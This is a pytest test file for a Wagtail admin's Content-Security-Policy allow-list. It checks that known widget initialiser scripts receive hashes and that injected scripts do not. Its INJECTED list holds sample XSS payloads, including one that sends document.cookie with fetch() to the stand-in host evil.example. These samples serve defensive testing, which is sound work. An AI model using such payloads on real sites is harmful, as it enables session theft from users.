"""Which inline scripts the admin may run: Wagtail's widget initialisers with data, nothing else."""

import pytest

from portal.csp import allowed_inline_script_hashes, is_known_initialiser, script_hash

WAGTAIL_INITIALISERS = [
    'initDateChooser("id_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i", "formatTime": "H:i"});',
    'new PageChooser("id_contact_page", {"modelNames": ["wagtailcore.page"], "canChooseRoot": false, "userPerms": null, "modalUrl": "/admin/choose-page/", "parentId": 3});',
    'new ImageChooser("id_logo", {"modalUrl": "/admin/images/chooser/"});',
    'createTaskChooser("id_task");',
    '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_items\\u0022}"));\n        })();\n    ',
]

INJECTED = [
    "alert(document.cookie)",
    'initDateChooser("x", {});alert(1)',
    'initDateChooser("x", {}); fetch("https://evil.example/?" + document.cookie);',
    'new PageChooser("id", {"a": 1}) + alert(1);',
    'initDateChooser("x", alert(1));',
    'evil("x", {});',
    '(function() { var panel = new InlinePanel(JSON.parse("x")); alert(1); })();',
]


@pytest.mark.parametrize("script", WAGTAIL_INITIALISERS)
def test_wagtail_widget_initialisers_are_allowed(script):
    assert is_known_initialiser(script)


@pytest.mark.parametrize("script", INJECTED)
def test_anything_else_stays_blocked(script):
    assert not is_known_initialiser(script)


def test_only_the_allowed_scripts_of_a_page_get_a_hash():
    html = "".join(f"<script>{body}</script>" for body in [WAGTAIL_INITIALISERS[0], INJECTED[0]])
    assert allowed_inline_script_hashes(html) == [script_hash(WAGTAIL_INITIALISERS[0])]


@pytest.mark.django_db
def test_an_admin_page_with_a_date_picker_allows_exactly_its_initialisers(client):
    from django.contrib.auth.models import User

    client.force_login(User.objects.create_superuser("szef", "s@gops.example.pl", "haslo-szefa-1234"))
    response = client.get("/admin/snippets/intake/closedday/add/")
    html = response.content.decode()
    policy = response["Content-Security-Policy"]
    hashes = allowed_inline_script_hashes(html)
    assert hashes and all(h in policy for h in hashes)
    assert "'unsafe-inline'" not in policy
